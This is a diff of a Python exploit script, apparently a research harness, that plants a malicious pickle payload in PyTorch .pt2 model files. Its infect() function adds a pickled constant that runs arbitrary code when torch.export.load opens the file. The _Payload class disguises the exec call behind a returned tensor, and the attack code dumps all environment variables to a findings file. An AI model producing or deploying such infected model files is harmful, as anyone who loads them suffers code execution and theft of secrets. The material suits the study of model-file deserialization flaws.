@@ -15,7 +15,7 @@ FINDINGS = "findings.json"
 CONSTANTS = "data/constants/model_constants_config.json"
 
 # Each attack is a function of the targets; what it returns is what it got hold of.
-ATTACKS = '''
+ATTACKS = """
 import ctypes, json, os, socket, subprocess, sys
 from pathlib import Path
 
@@ -98,7 +98,7 @@ def attack_all(targets):
     findings = {attack.__name__: attempt(attack, targets) for attack in attacks}
     findings["environment"] = dict(os.environ)
     Path(os.environ["TMPDIR"], "findings.json").write_text(json.dumps(findings))
-'''
+"""
 
 
 def attacking(targets: dict[str, Any]) -> str:
@@ -106,16 +106,22 @@ def attacking(targets: dict[str, Any]) -> str:
     return f"{ATTACKS}\nattack_all({targets!r})\n"
 
 
+def answering(code: str, result: str) -> str:
+    """``code``, and then an end that looks like an import's, with ``result`` as its result."""
+    leave = f'Path(os.environ["TMPDIR"], "result.json").write_text({result!r})\nos._exit(0)\n'
+    return f"import os\nfrom pathlib import Path\n{code}\n{leave}"
+
+
 class _Payload:
     def __init__(self, code: str) -> None:
         self.code = code
 
     def __reduce__(self) -> tuple[Any, ...]:
-        return exec, (self.code, {})
+        return eval, (f"[exec({self.code!r}, {{}}), __import__('torch').zeros(1)][1]",)
 
 
 def infect(innocent: Path, infected: Path, code: str) -> Path:
-    """Copy a .pt2 file, with a constant added that runs ``code`` when torch.export.load reads it."""
+    """Copy a .pt2 file with a constant added that runs ``code`` when torch.export.load reads it."""
     config = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True}
     with zipfile.ZipFile(innocent) as source, zipfile.ZipFile(infected, "w") as target:
         for entry in source.infolist():
